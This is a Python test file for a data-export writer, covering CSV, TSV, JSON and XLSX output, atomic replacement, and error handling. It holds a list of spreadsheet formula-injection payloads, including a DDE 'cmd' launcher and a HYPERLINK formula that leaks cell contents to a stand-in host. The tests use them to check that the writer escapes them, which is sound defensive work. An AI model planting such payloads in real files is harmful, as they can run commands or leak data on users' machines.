"""Writing rows: what stands in the file, that it appears whole or not at all, and that reading gives it back."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bo.core.exchange import Format, Value, open_source, open_writer
from bo.core.exchange.escaping import digits, escape, unescape
from bo.core.kernel.errors import BadFile, BadInput, StorageFull, UsageError
from tests.core.exchange.files import read

ROW: list[Value] = ["张三", 3, True, None, Decimal("150.00"), date(2025, 1, 31), datetime(2025, 1, 31, 9, tzinfo=UTC)]
COLUMNS = ["name", "count", "active", "note", "amount", "day", "at"]
TEXTS = ["张三", "3", "true", "", "150.00", "2025-01-31", "2025-01-31T09:00:00Z"]

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"go")',
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "'=1",
    "''=1",
    "-2+3+cmd|' /C calc'!A0",
    '=1","=2',
]


def written(format: Format, rows: list[list[Value]], columns: list[str]) -> bytes:
    target = io.BytesIO()
    with open_writer(target, format, columns) as writer:
        for row in rows:
            writer.row(row)
    return target.getvalue()


def test_csv_and_tsv_hold_the_text_of_each_value() -> None:
    assert written("csv", [ROW], COLUMNS).decode() == f"{','.join(COLUMNS)}\n{','.join(TEXTS)}\n"
    assert written("tsv", [ROW], COLUMNS).decode() == f"{chr(9).join(COLUMNS)}\n{chr(9).join(TEXTS)}\n"


def test_json_keeps_numbers_and_truth_and_writes_decimals_as_text() -> None:
    expected = dict(zip(COLUMNS, ["张三", 3, True, None, *TEXTS[4:]], strict=True))
    assert json.loads(written("json", [ROW, ROW], COLUMNS)) == [expected, expected]
    assert [json.loads(line) for line in written("jsonl", [ROW], COLUMNS).splitlines()] == [expected]
    assert written("json", [], COLUMNS) == b"[]\n"
    assert written("jsonl", [], COLUMNS) == b""


def test_xlsx_keeps_text_as_text_and_exact_numbers_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows: list[list[Value]] = [["=1+1", 7, Decimal("150.10")], ["007", 10**18, Decimal("0.1234567890123456789")]]
    with open_writer(path, "xlsx", ["a", "b", "c"], sheet="leads/2025") as writer:
        for row in rows:
            writer.row(row)
    with open_source(path) as source:
        assert source.sheet == "leads 2025"
        assert [row.cells for row in source] == [
            ["=1+1", "7", "150.1"],
            ["007", "1000000000000000000", "0.1234567890123456789"],
        ]


@pytest.mark.parametrize("format", ["csv", "tsv", "xlsx"])
def test_no_rows_are_a_header_alone(tmp_path: Path, format: Format) -> None:
    path = tmp_path / "out"
    open_writer(path, format, ["id", "name"]).close()
    got = read(open_source(path))
    assert (got.columns, got.rows, got.problems) == (["id", "name"], [], {})


def test_a_mark_for_excel_can_be_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with open_writer(path, "csv", ["名"], bom=True) as writer:
        writer.row(["张"])
    assert path.read_bytes() == "\ufeff名\n张\n".encode()
    assert read(open_source(path)).columns == ["名"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_csv_or_tsv_is_live_and_each_comes_back(tmp_path: Path, payload: str) -> None:
    for format, delimiter in (("csv", ","), ("tsv", "\t")):
        path = tmp_path / f"out.{format}"
        path.write_bytes(written(format, [["1", payload]], ["id", payload + " x"]))  # type: ignore[arg-type]
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
        assert not [cell for cell in cells if cell[:1] in "=+-@\t\r\n\0＝＋－＠" and cell]
        assert read(open_source(path, unescape=True)).rows == [["1", payload]]


@pytest.mark.parametrize("text", ["-12.50", "+8613800138000", "+1.5", "-0", "12", "", "a=b", "é", "it's", "'quoted'"])
def test_numbers_phones_and_plain_text_are_not_touched(text: str) -> None:
    assert escape(text) == text
    assert unescape(text) == text


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]) | st.sampled_from("'=+-@\t\r\n\0＝1")))
def test_escaping_has_a_way_back_for_every_text(text: str) -> None:
    safe = escape(text)
    assert unescape(safe) == text
    assert safe == text or safe == "'" + text


def test_an_apostrophe_says_that_digits_are_text_and_a_second_one_that_it_is_meant() -> None:
    assert [unescape("'4897082590194"), escape("'4897082590194")] == ["4897082590194", "''4897082590194"]
    assert digits("'2026-001") == "2026-001"
    assert [digits(text) for text in ("''1", "'90s", "'", "1'2")] == ["''1", "'90s", "'", "1'2"]


CELL = st.text(
    alphabet=st.characters(exclude_categories=["Cs"]) | st.sampled_from("'=+-@\t\r\n\0\"`,;|\\ 1a#"), max_size=12
)


@given(st.lists(st.tuples(CELL, CELL, CELL), max_size=8), st.sampled_from(["csv", "tsv", "json", "jsonl"]))
def test_export_then_import_changes_nothing(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str, str]], format: Format
) -> None:
    path = tmp_path_factory.mktemp("round", numbered=True) / f"out.{format}"
    path.write_bytes(written(format, [["lead_1", *row] for row in rows], ["id", "first name", "b", "c"]))
    if format == "jsonl" and not rows:
        return
    if format == "json" and not rows:
        return
    got = read(open_source(path, unescape=True))
    assert (got.columns, got.problems) == (["id", "first name", "b", "c"], {})
    assert got.rows == [["lead_1", *row] for row in rows]


def test_a_file_appears_only_when_it_is_complete(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old")
    path.chmod(0o640)
    with open_writer(path, "csv", ["id"]) as writer:
        writer.row(["1"])
        assert path.read_text() == "old"
    assert (path.read_text(), path.stat().st_mode & 0o777, os.listdir(tmp_path)) == ("id\n1\n", 0o640, ["out.csv"])


@pytest.mark.parametrize("format", ["csv", "json", "xlsx"])
def test_a_failure_leaves_everything_as_it_was(tmp_path: Path, format: Format) -> None:
    path = tmp_path / "out"
    path.write_text("old")

    def fail_in_the_middle() -> None:
        with open_writer(path, format, ["id"]) as writer:
            writer.row(["1"])
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fail_in_the_middle()
    assert (path.read_text(), os.listdir(tmp_path)) == ("old", ["out"])


def test_a_link_stays_a_link(tmp_path: Path) -> None:
    path, link = tmp_path / "real.csv", tmp_path / "link.csv"
    path.write_text("old")
    try:
        link.symlink_to(path)
    except OSError:
        pytest.skip("links cannot be made here")
    open_writer(link, "csv", ["id"]).close()
    assert (link.is_symlink(), path.read_text()) == (True, "id\n")


def test_what_cannot_be_written_is_told(tmp_path: Path) -> None:
    with pytest.raises(BadFile, match="cannot be written"):
        open_writer(tmp_path, "csv", ["id"])
    with pytest.raises(BadFile, match="cannot be written"):
        open_writer(tmp_path / "none" / "out.csv", "csv", ["id"])
    with pytest.raises(UsageError, match="xls is not written"):
        open_writer(tmp_path / "out.xls", "xls", ["id"])
    assert os.listdir(tmp_path) == []


def test_a_full_disk_is_told_as_such_and_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_descriptor: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    writer = open_writer(tmp_path / "out.csv", "csv", ["id"])
    with pytest.raises(StorageFull, match="nothing was changed"):
        writer.close()
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("format", ["csv", "tsv", "json", "jsonl", "xlsx"])
def test_half_a_character_is_refused(tmp_path: Path, format: Format) -> None:
    writer = open_writer(tmp_path / "out", format, ["id"])
    writer.row(["1"])
    with pytest.raises(BadInput, match="row 2 holds half of a character"):
        writer.row(["\ud800"])
    writer.abandon()
    assert os.listdir(tmp_path) == []


def test_what_a_sheet_cannot_hold_is_refused(tmp_path: Path) -> None:
    writer = open_writer(tmp_path / "out.xlsx", "xlsx", ["note"])
    writer.row(["x" * 32_767])
    with pytest.raises(BadInput, match="note is longer than the 32767 characters that a cell holds"):
        writer.row(["😀" * 16_384])
    writer.close()
    assert len(read(open_source(tmp_path / "out.xlsx")).rows) == 1


def test_a_row_of_another_width_is_a_flaw_of_the_program(tmp_path: Path) -> None:
    writer = open_writer(io.BytesIO(), "csv", ["a", "b"])
    with pytest.raises(ValueError, match="1 values for 2 columns"):
        writer.row(["1"])
    with pytest.raises(ValueError, match="columns with the same name"):
        open_writer(io.BytesIO(), "csv", ["a", "a"])
